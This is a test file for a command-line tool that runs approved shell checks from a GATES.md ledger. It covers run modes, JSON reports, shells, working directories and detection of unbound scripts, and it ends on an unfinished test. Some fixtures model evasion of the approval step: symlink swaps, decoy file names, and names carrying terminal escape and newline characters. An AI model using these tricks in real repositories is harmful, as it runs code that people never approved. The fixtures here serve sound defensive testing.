// Run modes through the real CLI: selection, order, concurrency, shells, working
// directories, DEPENDS, interactive approval, and the JSON report of a run.
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, joinedRows, runCli, sandbox, writeFiles } from '../helpers/cli.js';
import { assertReportSchema } from '../helpers/schema.js';

function repo(files: Record<string, string>) {
  const s = sandbox();
  writeFiles(s.repo, files);
  return {
    ...s,
    run: (args: string[], env: NodeJS.ProcessEnv = {}, cwd = s.repo) => runCli(args, { cwd, env: { ...s.env, ...env } }),
    ledger: (name = 'GATES.md') => readFileSync(join(s.repo, name), 'utf8'),
  };
}

const gate = (id: string, check: string, expect: string, extra = '') => `- [ ] ${id}: ${id} works\n  CHECK: ${check}\n  EXPECT: ${expect}\n${extra}`;

describe('run modes', () => {
  it('a plain run without approvals runs nothing, shows each oracle, and exits 1', () => {
    const s = repo({ 'GATES.md': gate('A', 'touch ran; echo ok', 'ok') });
    const r = s.run([]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^APPROVAL REQUIRED GATES:A@[0-9a-f]{32} {2}\(GATES\.md:1\)$/m);
    expect(r.stdout).toMatch(/^ {2}CHECK {3}touch ran; echo ok$/m);
    expect(r.stdout).toMatch(/^ {2}SHELL {3}\/bin\/sh$/m);
    expect(existsSync(join(s.repo, 'ran'))).toBe(false);
  });

  it('exits 0 when every gate is met after the run, 1 while a manual gate is open', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok') });
    expect(s.run(['--approve']).code).toBe(0);
    const t = repo({ 'GATES.md': gate('A', 'echo ok', 'ok') + '- [ ] M: a person decides\n' });
    const r = t.run(['--approve']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^UNMET: GATES:M$/m);
  });

  // Found by round 41a (F1): a full --reverify skipped verifying manual gates, so its JSON
  // said verification null and counted no manual gate.
  it('every run mode reports a met manual gate as manual, in its JSON summary and gates', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok') + '\n- [x] M: wording approved\n  EVIDENCE: approved by PO\n' });
    expect(s.run(['--approve']).code).toBe(0);
    for (const args of [[], ['--reverify'], ['--reverify', '--only-stale']]) {
      const doc = JSON.parse(s.run([...args, '--json']).stdout);
      expect(doc.summary, args.join(' ')).toMatchObject({ met: 2, verified: 1, manual: 1 });
      expect(doc.gates.map((g: { id: string; verification: string | null }) => `${g.id}=${g.verification}`), args.join(' ')).toEqual(['A=verified', 'M=manual']);
    }
  });

  // Found by round 41a (F4): a Node check that prints a lot and calls process.exit() can lose
  // its tail, more often on a busy machine; the failure says so when the output was large.
  it('an EXPECT not found after more than a pipe holds says the tail may be lost; after less, it does not', () => {
    const s = repo({ 'GATES.md': gate('BIG', "awk 'BEGIN { for (i = 0; i < 9000; i++) print \"line \" i }'", 'BIG-DONE') + gate('SMALL', 'echo small', 'SMALL-DONE') });
    const r = s.run(['--approve']);
    expect(r.stdout).toMatch(/^FAIL GATES:BIG .*EXPECT not found in the output \(\d{5,} bytes\): EXPECT: BIG-DONE; if the check prints a lot and exits at once \(process\.exit in Node\), the end of its output may not have been written/m);
    expect(r.stdout).toMatch(/^FAIL GATES:SMALL .*EXPECT not found in the output \(6 bytes\): EXPECT: SMALL-DONE$/m);
  });

  it('reports results in ledger order with --jobs, whatever finishes first', () => {
    const s = repo({ 'GATES.md': gate('A', 'sleep 0.6; echo a', 'a') + gate('B', 'sleep 0.3; echo b', 'b') + gate('C', 'echo c', 'c') + gate('D', 'sleep 0.1; echo d', 'd') });
    const r = s.run(['--approve', '--jobs', '4']);
    expect(r.code).toBe(0);
    const order = [...r.stdout.matchAll(/^PASS GATES:(\w)/gm)].map((m) => m[1]);
    expect(order).toEqual(['A', 'B', 'C', 'D']);
  });

  it('runs checks concurrently with --jobs', () => {
    const s = repo({ 'GATES.md': ['A', 'B', 'C', 'D'].map((id) => gate(id, 'sleep 1; echo ok', 'ok')).join('') });
    const t0 = Date.now();
    expect(s.run(['--approve', '--jobs', '4']).code).toBe(0);
    expect(Date.now() - t0).toBeLessThan(3500);
  });

  it('--fail-fast starts nothing after the first failure', () => {
    const s = repo({ 'GATES.md': gate('A', 'exit 1', 'x') + gate('B', 'touch b-ran; echo ok', 'ok') });
    const r = s.run(['--approve', '--fail-fast']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^FAIL GATES:A/m);
    expect(r.stdout).toMatch(/^NOT RUN GATES:B .*--fail-fast/m);
    expect(existsSync(join(s.repo, 'b-ran'))).toBe(false);
  });

  it('a non-zero exit never passes, whatever it printed', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo passed; exit 3', 'passed') });
    const r = s.run(['--approve']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^FAIL GATES:A .*: exit 3$/m);
    expect(s.ledger()).not.toMatch(/\[x\]/);
  });

  it('--reverify counts a met gate it may not run as not met, exit 1, named NOT RE-RUN, not UNMET: it stays ticked ("reverify not run")', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok') });
    expect(s.run(['--approve']).code).toBe(0);
    const before = s.ledger();
    // Approve the --timeout 60 oracle and forget it again: the met gate's evidence stays
    // verified, but --reverify may not run its current oracle.
    const r = s.run(['--reverify', '--timeout', '60']); // another oracle: not approved
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^NOT RE-RUN: GATES:A \(still met; each waits for a new approval\)$/m);
    expect(r.stdout).not.toMatch(/^UNMET|^ALL MET/m);
    const j = JSON.parse(s.run(['--reverify', '--timeout', '60', '--json']).stdout);
    expect(j.gates[0].result).toMatchObject({ status: 'approval-required' });
    expect(j.gates[0].result.error).toMatch(/approval required$/);
    expect(s.ledger()).toBe(before);
    // With the same settings, a revoked approval is "reverify not run".
    const store = join(s.home, '.gate-check', 'approved');
    for (const f of readdirSync(store)) rmSync(join(store, f));
    const k = JSON.parse(s.run(['--reverify', '--json']).stdout);
    expect(k.gates[0].result).toMatchObject({ status: 'approval-required', error: 'reverify not run: approval required' });
    expect(k.exitCode).toBe(1);
  });

  it('the approval screen and --json name the scripts CHECK runs that no DEPENDS binds: an edit to them would run without asking again (round-7c attack)', () => {
    const s = repo({ 'GATES.md': gate('A', "sh check.sh && sh -c 'cd sub && sh ../later.sh'", 'ok', '  INPUTS: check.sh\n'), 'check.sh': 'echo ok\n', 'sub/.keep': '' });
    const r = s.run([]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('\n  UNBOUND check.sh, later.sh\n          CHECK runs or names them, no DEPENDS binds them: edits run unasked\n');
    const j = JSON.parse(s.run(['--json']).stdout);
    assertReportSchema(j);
    expect(j.gates[0].result.request).toMatchObject({ pinOnly: [], unboundScripts: ['check.sh', 'later.sh'] });
    // Bound by DEPENDS (a glob binds the script not written yet): nothing to say.
    const bound = repo({ 'GATES.md': gate('A', "sh check.sh && sh -c 'cd sub && sh ../later.sh'", 'ok', '  DEPENDS: *.sh\n'), 'check.sh': 'echo ok\n', 'sub/.keep': '' });
    expect(bound.run([]).stdout).not.toContain('UNBOUND');
    expect(JSON.parse(bound.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual([]);
  });

  // Round-38b F3: build output a check only greps was said to run; round-38c F6: what a runner
  // finds by itself (npm test's scripts, node --test's files) must stay with code.
  it('UNBOUND shows what the CHECK only reads as data on rows of their own; what runs stays with code', () => {
    const build = repo({ 'GATES.md': gate('A', 'sh build.sh >/dev/null && grep -c "export function mul" dist/math.js', '/^1$/m', '  DEPENDS: build.sh\n'), 'build.sh': 'mkdir -p dist; echo "export function mul" > dist/math.js\n', 'dist/math.js': 'export function mul\n' });
    expect(build.run([]).stdout).toContain('\n  UNBOUND dist/math.js\n          CHECK only reads it (grep, cat, test …): edits change the verdict\n          unasked; bind it in DEPENDS or INPUTS unless the check writes it\n');
    expect(build.run([]).stdout).not.toContain('runs or names');
    // As INPUTS, data is bound enough: nothing to say.
    const inputs = repo({ 'GATES.md': gate('A', 'grep -q ok expected.txt && echo ok', 'ok', '  INPUTS: expected.txt\n'), 'expected.txt': 'ok\n' });
    expect(inputs.run([]).stdout).not.toContain('UNBOUND');
    // Code a runner finds by itself, and a script piped into a shell: code, whatever reads it too.
    const pkg = JSON.stringify({ name: 'p', scripts: { test: 'node --test' } });
    const runner = repo({ 'GATES.md': gate('A', 'npm test', '/# pass [1-9]/', ''), 'package.json': pkg, 'test/a.test.js': "require('node:test')('a', () => {});\n" });
    const screen = runner.run([]).stdout;
    expect(screen).toMatch(/\n {2}UNBOUND [^\n]*test\/a\.test\.js[^\n]*\n {10}CHECK runs or names them, no DEPENDS binds them: edits run unasked\n/);
    expect(screen).not.toContain('CHECK only reads');
    // Copied into a file that then runs, INPUTS or not (round-38e F1): code.
    const copied = repo({ 'GATES.md': gate('A', 'cat rules.mk > Makefile; make -s gate', 'ok', '  INPUTS: rules.mk\n'), 'rules.mk': 'gate:\n\t@echo ok\n' });
    expect(copied.run([]).stdout).toContain('\n  UNBOUND rules.mk\n          CHECK runs or names it, no DEPENDS binds it: edits run unasked\n');
    const piped = repo({ 'GATES.md': gate('A', 'grep -q x run.sh; cat run.sh | sh', 'ok', ''), 'run.sh': 'echo ok # x\n' });
    expect(piped.run([]).stdout).toContain('\n  UNBOUND run.sh\n          CHECK runs or names it, no DEPENDS binds it: edits run unasked\n');
  });

  it('UNBOUND names every file of the repository the CHECK names, on disk now, that no DEPENDS binds (round-14 attack)', () => {
    const check = 'true --config=tests/conf.txt --log=tests/missing.txt && echo ok';
    const s = repo({ 'GATES.md': gate('A', check, 'ok', '  INPUTS: tests/*.txt\n'), 'tests/conf.txt': 'x\n' });
    expect(s.run([]).stdout).toContain('\n  UNBOUND tests/conf.txt\n          CHECK runs or names it, no DEPENDS binds it: edits run unasked\n');
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['tests/conf.txt']);
    const bound = repo({ 'GATES.md': gate('A', check, 'ok', '  DEPENDS: tests/conf.txt\n'), 'tests/conf.txt': 'x\n' });
    expect(bound.run([]).stdout).not.toContain('UNBOUND');
    // A FIFO where the CHECK reads a file is named too, not only a regular file (round 16).
    const fifo = repo({ 'GATES.md': gate('A', 'sqlite3 :memory: < tests/t.sql', 'ok', '') });
    mkdirSync(join(fifo.repo, 'tests'));
    execFileSync('mkfifo', [join(fifo.repo, 'tests', 't.sql')]);
    expect(JSON.parse(fifo.run(['--json']).stdout).gates[0].result.request.unboundScripts).toContain('tests/t.sql');
  });

  it('UNBOUND shows every name that fits the field, not five: decoys named first do not push the script out of sight; a bound on the reading is said', () => {
    const decoys = Array.from({ length: 8 }, (_, i) => `d${i}.txt`);
    const files = Object.fromEntries([...decoys.map((d) => [d, 'x\n']), ['payload.txt', 'x\n']]);
    const s = repo({ 'GATES.md': gate('A', `cat ${decoys.join(' ')} payload.txt >/dev/null; echo ok`, 'ok', ''), ...files });
    // The field as one line (the screen wraps it at 80 columns with a "~" row).
    const field = /\n {2}UNBOUND ([^]*?)\n {10}CHECK only reads/.exec(s.run([]).stdout)![1]!.replace(/\n {2}~ /g, '');
    expect(field).toBe([...decoys, 'payload.txt'].join(', '));
    const long = repo({ 'GATES.md': gate('A', `sed -n --expression='${'p'.repeat(5000)}' check.sh`, 'ok', ''), 'check.sh': 'echo ok\n' });
    expect(long.run([]).stdout.replace(/\n {2}~ /g, '')).toContain('not read past a word longer than 4096 characters: read the rest yourself\n');
    expect(JSON.parse(long.run(['--json']).stdout).gates[0].result.request.unboundNotJudged).toBe('a word longer than 4096 characters');
  });

  it('UNBOUND says where it stopped reading the CHECK: a cd it cannot follow, a CDPATH, a program named at run time (round-8c attack)', () => {
    const s = repo({ 'GATES.md': gate('A', 'sh check.sh; cd "$D" && sh x.sh', 'ok', ''), 'check.sh': 'echo ok\n' });
    expect(s.run([]).stdout).toContain('\n  UNBOUND check.sh\n          CHECK runs or names it, no DEPENDS binds it: edits run unasked\n          not read past a cd to a folder set at run time: read the rest yourself\n');
    const cdpath = repo({ 'GATES.md': gate('A', 'CDPATH=spec cd unit && sh run.sh', 'ok', '  DEPENDS: unit/run.sh\n'), 'unit/run.sh': 'echo ok\n', 'spec/unit/run.sh': 'echo ok\n' });
    expect(cdpath.run([]).stdout).toContain('\n  UNBOUND not read past a cd through CDPATH: read the rest yourself\n');
    const request = JSON.parse(cdpath.run(['--json']).stdout).gates[0].result.request;
    expect(request).toMatchObject({ unboundScripts: [], unboundNotJudged: 'a cd through CDPATH' });
    // A script run inside a command substitution, and one after a node option with a value (round-9 attack).
    const sub = repo({ 'GATES.md': gate('A', 'test "$(sh scripts/check.sh)" = ok && echo VERIFIED', 'VERIFIED', ''), 'scripts/check.sh': 'echo ok\n' });
    // (The file the substitution runs is named all the same: the CHECK names it.)
    expect(sub.run([]).stdout).toContain('\n  UNBOUND scripts/check.sh\n          CHECK runs or names it, no DEPENDS binds it: edits run unasked\n          not read past a command substitution $(…): read the rest yourself\n');
    const titled = repo({ 'GATES.md': gate('A', 'node --title scripts/check.js scripts/helper.js', 'ok', '  DEPENDS: scripts/check.js\n'), 'scripts/check.js': '', 'scripts/helper.js': "console.log('ok')\n" });
    expect(titled.run([]).stdout).toContain('\n  UNBOUND scripts/helper.js\n');
    // Read to the end: nothing is said.
    const whole = repo({ 'GATES.md': gate('A', 'sh check.sh', 'ok', '  DEPENDS: check.sh\n'), 'check.sh': 'echo ok\n' });
    expect(whole.run([]).stdout).not.toContain('UNBOUND');
    expect(JSON.parse(whole.run(['--json']).stdout).gates[0].result.request.unboundNotJudged).toBeNull();
  });

  it('UNBOUND names what a shell pattern matches now, in any position: node --test test/*.test.js, a brace list in bash -c (round-15 H2)', () => {
    const files = { 'test/a.test.js': '', 'test/b.test.js': '', 'test/unit.test.js': '', 'test/api.test.js': '', 't/x.t': '' };
    const s = repo({ 'GATES.md': gate('A', "node --test test/[ab].test.js && bash -c 'node --test test/{unit,api}.test.js' && prove t/*.t", 'ok', ''), ...files });
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['test/a.test.js', 'test/b.test.js', 'test/unit.test.js', 'test/api.test.js', 't/x.t']);
    const bound = repo({ 'GATES.md': gate('A', 'node --test test/*.test.js', 'ok', '  DEPENDS: test/*.test.js\n'), ...files });
    expect(JSON.parse(bound.run(['--json']).stdout).gates[0].result.request).toMatchObject({ unboundScripts: [], unboundNotJudged: null });
    // Past the bound of patterns it lists: said.
    const many = repo({ 'GATES.md': gate('A', `ls ${Array.from({ length: 65 }, (_, i) => `x${i}/*`).join(' ')}`, 'ok', ''), ...files });
    expect(JSON.parse(many.run(['--json']).stdout).gates[0].result.request.unboundNotJudged).toBe('more than 64 shell patterns');
  });

  it('UNBOUND names a match whose name holds a control or pattern character, escaped on the screen (round-18 F1)', () => {
    const files = { 't/a.sh': 'echo ok\n', 't/z\u001b[8m.sh': 'true\n', 't/n\nl.sh': 'true\n', 'u/x[1]*/c.sh': 'true\n' };
    const s = repo({ 'GATES.md': gate('A', 'cat t/*.sh | sh && sh u/*/c.sh', 'ok', ''), ...files });
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts.sort()).toEqual(['t/*.sh', 't/a.sh', 't/n\nl.sh', 't/z\u001b[8m.sh', 'u/*/c.sh', 'u/x[1]*/c.sh']);
    const screen = s.run([]).stdout;
    expect(screen).toContain('t/z<U+001B>[8m.sh');
    expect(screen).toContain('t/n<U+000A>l.sh');
    expect(screen).not.toContain('\u001b');
    // A folder so named, given to a runner: the code in it.
    const js = repo({ 'GATES.md': gate('A', 'node --test u/*', 'ok', ''), 'u/x[1]*/c.test.js': '' });
    expect(JSON.parse(js.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['u/x[1]*/c.test.js']);
  });

  it("UNBOUND resolves package.json's main as node does, as text: ./lib/../t.js is t.js with no lib/ on disk (round-20 G3)", () => {
    const s = repo({ 'GATES.md': gate('A', 'node .', 'ok', '  DEPENDS: package.json\n'), 'package.json': JSON.stringify({ main: './lib/../t.js' }), 't.js': "console.log('ok')\n" });
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['t.js']);
  });

  it("UNBOUND names what node loads through the repository's package.json (#imports, its own name), and package.json (round-15 H3)", () => {
    const pkg = JSON.stringify({ name: 'selfpkg', exports: { './setup': './tests/setup.js' }, imports: { '#pre': './tests/pre.mjs' } });
    const s = repo({ 'GATES.md': gate('A', "node -r selfpkg/setup --import '#pre' t.js", 'ok', '  DEPENDS: t.js\n'), 'package.json': pkg, 'tests/setup.js': '', 'tests/pre.mjs': '', 't.js': "console.log('ok')\n" });
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['package.json', 'tests/setup.js', 'tests/pre.mjs']);
  });

  it('UNBOUND names the code in a folder a runner is given, not the folder, which nothing can bind (round-15 A7 and noise)', () => {
    const files = { 'test/a.test.js': '', 'test/unit/b.test.js': '', 'test/fixture.json': '{}', 'tests/test_a.py': '' };
    const s = repo({ 'GATES.md': gate('A', 'node --test test/ && python3 -m unittest discover -s tests', 'ok', ''), ...files });
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['test/a.test.js', 'test/unit/b.test.js', 'tests/test_a.py']);
    const bound = repo({ 'GATES.md': gate('A', 'node --test test/', 'ok', '  DEPENDS: test/**\n'), ...files });
    expect(JSON.parse(bound.run(['--json']).stdout).gates[0].result.request).toMatchObject({ unboundScripts: [], unboundNotJudged: null });
    // A folder the CHECK only lists is not run; `make test` names a target, not the folder test/ (round-16 noise).
    const listed = repo({ 'GATES.md': gate('A', 'ls test && make test && echo ok', 'ok', ''), ...files });
    expect(JSON.parse(listed.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual([]);
    // A pattern that matches a folder given to a runner: the code in it (round-16 H1).
    const star = repo({ 'GATES.md': gate('A', 'node --test t*', 'ok', ''), ...files });
    expect(JSON.parse(star.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['test/a.test.js', 'test/unit/b.test.js', 'tests/test_a.py']);
  });

  it('UNBOUND follows links in an absolute path into the repository as it does in a relative one: /repo/dl/../x.sh runs sub/x.sh (round-15 H1)', () => {
    const s = repo({ 'GATES.md': gate('A', 'true', 'ok', '  DEPENDS: x.sh\n'), 'x.sh': 'echo ok\n', 'sub/x.sh': 'echo ok\n', 'sub/deep/.keep': '' });
    symlinkSync('sub/deep', join(s.repo, 'dl'));
    const root = realpathSync(s.repo);
    writeFileSync(join(s.repo, 'GATES.md'), gate('A', `sh ${root}/dl/../x.sh && node -r ${root}/dl/../x.sh -e 1`, 'ok', '  DEPENDS: x.sh\n'));
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['dl/../x.sh']);
    // Without the link, the same text is the bound x.sh.
    const plain = repo({ 'GATES.md': gate('A', 'true', 'ok', '  DEPENDS: x.sh\n'), 'x.sh': 'echo ok\n', 'dl/.keep': '' });
    writeFileSync(join(plain.repo, 'GATES.md'), gate('A', `sh ${realpathSync(plain.repo)}/dl/../x.sh`, 'ok', '  DEPENDS: x.sh\n'));
    expect(JSON.parse(plain.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual([]);
  });

  it('UNBOUND follows the file system as the shell does: a script reached through a symlinked folder is named, whatever the text or a glob says (round-8 attack)', () => {
    const s = repo({ 'GATES.md': gate('A', 'sh lib/run.sh && cd tests && sh ../check.sh', 'ok', '  DEPENDS: check.sh, **/*.sh\n'), 'check.sh': 'echo ok\n', 'spec/check.sh': 'echo ok\n', 'spec/unit/t.txt': 'x\n' });
    symlinkSync('spec/unit', join(s.repo, 'tests'));
    const outside = join(s.home, 'outside');
    mkdirSync(outside);
    writeFileSync(join(outside, 'run.sh'), 'echo ok\n');
    symlinkSync(outside, join(s.repo, 'lib'));
    const j = JSON.parse(s.run(['--json']).stdout);
    // spec/check.sh is in DEPENDS (the glob matched it), but the link that leads there is bound by nothing (round-8c attack);
    // lib/run.sh lies outside through a link. Both are named as written.
    expect(j.gates[0].result.request.depends).toEqual(['check.sh', 'spec/check.sh']);
    expect(j.gates[0].result.request.unboundScripts).toEqual(['lib/run.sh', 'tests/../check.sh']);
    const narrow = repo({ 'GATES.md': gate('A', 'cd tests && sh ../check.sh', 'ok', '  DEPENDS: check.sh\n'), 'check.sh': 'echo ok\n', 'spec/check.sh': 'echo ok\n', 'spec/unit/t.txt': 'x\n' });
    symlinkSync('spec/unit', join(narrow.repo, 'tests'));
    expect(narrow.run([]).stdout).toContain('\n  UNBOUND tests/../check.sh\n          CHECK runs or names it, no DEPENDS binds it: edits run unasked\n');
    // The shell keeps its directory as text: after `cd tests` and `cd ..` it is back at the top (round-8b attack).
    const back = repo({ 'GATES.md': gate('A', 'cd tests && cd .. && sh check.sh && cd tests/.. && sh check.sh', 'ok', '  DEPENDS: spec/check.sh\n'), 'check.sh': 'echo ok\n', 'spec/check.sh': 'echo ok\n', 'spec/unit/t.txt': 'x\n' });
    symlinkSync('spec/unit', join(back.repo, 'tests'));
    expect(JSON.parse(back.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['check.sh']);
    // After a `;`, the chain before it may have stopped anywhere: each folder it may be in counts (round-8d attack).
    const either = repo({ 'GATES.md': gate('A', 'cd tests && cd .. && sh check.sh; cd tests/.. && sh check.sh', 'ok', '  DEPENDS: spec/check.sh\n'), 'check.sh': 'echo ok\n', 'spec/check.sh': 'echo ok\n', 'spec/unit/t.txt': 'x\n' });
    symlinkSync('spec/unit', join(either.repo, 'tests'));
    expect(JSON.parse(either.run(['--json']).stdout).gates[0].result.request.unboundScripts).toEqual(['check.sh', 'tests/check.sh']);
    // A folder linked out of the repository: `..` there is out there too. `cd -P` is an option, not
    // a folder, and a physical cd the reading does not follow: it stops there and says so (round-8c attack).
    const out = repo({ 'GATES.md': gate('A', "sh -c 'cd tests && sh ../check.sh'; sh lib/run.sh; sh -c 'cd -P lib && sh run.sh'", 'ok', '  DEPENDS: check.sh, **/*.sh\n'), 'check.sh': 'echo ok\n' });
    const far = join(out.home, 'far', 'unit');
    mkdirSync(far, { recursive: true });
    symlinkSync(far, join(out.repo, 'tests'));
    symlinkSync(far, join(out.repo, 'lib'));
    // lib/run.sh is not there yet, but a glob never enters the link it would be reached through.
    expect(JSON.parse(out.run(['--json']).stdout).gates[0].result.request).toMatchObject({ unboundScripts: ['lib/run.sh', 'tests/../check.sh'], unboundNotJudged: 'cd -P (it resolves links)' });
    // Through a link inside the repository: DEPENDS binds the file it leads to now, nothing binds
    // the link, and `ln -sfn evil lib` would run evil/run.sh under this approval (round-8c attack).
    const linked = repo({ 'GATES.md': gate('A', 'sh lib/run.sh', 'ok', '  DEPENDS: **/*.sh\n'), 'check.sh': 'echo ok\n', 'elsewhere/run.sh': 'echo ok\n' });
    symlinkSync('elsewhere', join(linked.repo, 'lib'));
    expect(JSON.parse(linked.run(['--json']).stdout).gates[0].result.request).toMatchObject({ depends: ['check.sh', 'elsewhere/run.sh'], unboundScripts: ['lib/run.sh'] });
  });

  it('a DEPENDS list too long for the screen is approved only by its pin', () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 200; i++) files[`inputs/file-with-a-rather-long-name-${String(i).padStart(3, '0')}.txt`] = 'x\n';
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok', '  DEPENDS: inputs/*\n'), ...files });
    const r = s.run([]);
    expect(r.stdout).toMatch(/^ {9}\(a list of \d+ characters: the first 3999 are here\)$/m);
    expect(JSON.parse(s.run(['--json']).stdout).gates[0].result.request.pinOnly[0]).toBe('DEPENDS list');
  });

  it('the DEPENDS list shows blank runs as the length measure counts them, so a list cut short is always said (round-8b attack)', () => {
    const name = `inputs/a${' '.repeat(40)}b.txt`;
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok', '  DEPENDS: inputs/*\n'), [name]: 'x\n' });
    expect(joinedRows(s.run([]).stdout)).toContain('  DEPENDS 1 file: inputs/a<40 spaces>b.txt\n');
  });

  it('--json says what the approval screen cannot show in full: that oracle is approved only by its pin', () => {
    const long = `echo ${'x'.repeat(2100)}`;
    const s = repo({ 'GATES.md': gate('A', long, 'ok') });
    const j = JSON.parse(s.run(['--json']).stdout);
    assertReportSchema(j);
    expect(j.gates[0].result.request).toMatchObject({ check: long, pinOnly: ['CHECK'], unboundScripts: [] });
  });

  it('emits a schema-valid JSON report for a run', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok') });
    const pending = JSON.parse(s.run(['--json']).stdout);
    assertReportSchema(pending);
    expect(pending.gates[0].result).toMatchObject({ status: 'approval-required', changed: null });
    expect(pending.gates[0].result.signature).toMatch(/^[0-9a-f]{64}$/);
    // What to approve, in data: an editor or a bot can show it.
    expect(pending.gates[0].result.request).toEqual({ check: 'echo ok', expect: 'ok', cwd: s.repo, shell: '/bin/sh', timeoutMs: 120_000, path: expect.any(String), depends: [], pathBound: [], env: expect.any(Array), pinOnly: [], unboundScripts: [], unboundNotJudged: null });
    const fresh = repo({ 'GATES.md': gate('A', 'echo ok', 'ok') + gate('B', 'echo no; exit 1', 'ok') });
    const a = fresh.run(['--approve', '--json']);
    const d = JSON.parse(a.stdout);
    assertReportSchema(d);
    expect(a.code).toBe(1);
    expect(d).toMatchObject({ mode: 'approve', exitCode: 1, summary: { met: 1, unmet: 1 } });
    expect(d.gates[0].result).toMatchObject({ status: 'pass', exit: 0, bytes: 3 });
    expect(d.gates[0].result.outputSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(d.gates[1].result).toMatchObject({ status: 'fail', exit: 1, error: 'exit 1' });
  });
});

describe('shells', () => {
  it('uses --shell, then GATE_CHECK_SHELL, then /bin/sh, resolved to an absolute path', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo "$0"', '/bash') });
    expect(s.run(['--approve', '--json', '--shell', 'bash']).stdout).toMatch(/"status": "pass"/);
    const d = repo({ 'GATES.md': gate('A', 'echo "$0"', '/bash') });
    expect(d.run(['--approve', '--json']).code).toBe(1); // /bin/sh is not bash: the default was used
    const t = repo({ 'GATES.md': gate('A', 'echo "$0"', '/bin/bash') });
    expect(t.run(['--approve'], { GATE_CHECK_SHELL: '/bin/bash' }).code).toBe(0);
    expect(t.ledger()).toMatch(/^\s+EVIDENCE: exit=0; def=/m);
  });

  it('exits 2 when the shell cannot be resolved, running nothing', () => {
    const s = repo({ 'GATES.md': gate('A', 'touch ran; echo ok', 'ok') });
    for (const args of [['--shell', '/nonexistent/sh'], ['--shell', 'no-such-shell-xyz']]) {
      const r = s.run(['--approve', ...args]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/not an executable file/);
    }
    expect(s.run(['--approve', '--shell', 'sh'], { PATH: '' }).code).toBe(2);
    expect(existsSync(join(s.repo, 'ran'))).toBe(false);
  });
});

describe('working directories', () => {
  it('CWD is relative to the repository root, whether the ledger is discovered or named', () => {
    const s = repo({ 'GATES.md': gate('A', 'pwd -P', '/repo/sub', '  CWD: sub\n'), 'gates/web.md': gate('B', 'pwd -P', '/repo/web', '  CWD: web\n') });
    mkdirSync(join(s.repo, 'sub'));
    mkdirSync(join(s.repo, 'web'));
    // Discovered: both run in root-relative folders.
    const discovered = s.run(['--approve', '--json']);
    expect(discovered.code, discovered.stderr).toBe(0);
    // Named, as pre-commit passes file names: the same root, the same folders, the same oracles.
    writeFiles(s.repo, { 'GATES.md': gate('A', 'pwd -P', '/repo/sub', '  CWD: sub\n'), 'gates/web.md': gate('B', 'pwd -P', '/repo/web', '  CWD: web\n') });
    const named = s.run(['--json', 'gates/web.md', 'GATES.md']);
    expect(named.code, named.stdout).toBe(0);
    expect(JSON.parse(named.stdout).gates.map((g: { result: { status: string } }) => g.result.status)).toEqual(['pass', 'pass']);
  });

  it('from a subdirectory, the root is found as git finds a work tree', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok'), 'src/deep/x.txt': '' });
    execFileSync('git', ['init', '-q'], { cwd: s.repo });
    const here = join(s.repo, 'src', 'deep');
    const status = runCli(['--status'], { cwd: here, env: s.env });
    expect(status.code).toBe(1);
    expect(status.stdout).toMatch(/^GATES:A {2}unchecked/m);
    // A package with its own ledger is its own root.
    writeFiles(s.repo, { 'packages/api/GATES.md': gate('P', 'echo ok', 'ok'), 'packages/api/src/y.txt': '' });
    const pkg = runCli(['--status', '--json'], { cwd: join(s.repo, 'packages/api/src'), env: s.env });
    expect(JSON.parse(pkg.stdout)).toMatchObject({ root: join(s.repo, 'packages/api'), files: ['GATES.md'] });
    // Without a ledger anywhere up to the top level, the top level is the root: init writes there.
    const t = repo({ 'src/z.txt': '' });
    execFileSync('git', ['init', '-q'], { cwd: t.repo });
    const none = runCli(['--status'], { cwd: join(t.repo, 'src'), env: t.env });
    expect(none.code).toBe(2);
    expect(none.stderr).toContain(t.repo);
    expect(runCli(['init'], { cwd: join(t.repo, 'src'), env: t.env }).code).toBe(0);
    expect(existsSync(join(t.repo, 'GATES.md'))).toBe(true);
    expect(existsSync(join(t.repo, 'src', 'GATES.md'))).toBe(false);
  });

  it('uses --cwd for gates without CWD', () => {
    const s = repo({ 'GATES.md': gate('A', 'pwd -P', 'elsewhere') });
    mkdirSync(join(s.repo, 'elsewhere'));
    expect(s.run(['--approve', '--cwd', 'elsewhere']).code).toBe(0);
  });

  it('a missing CWD is not run yet, a non-directory CWD or one outside the repository is not runnable (exit 1, the other gates run, --status says so); a bad --cwd exits 2', () => {
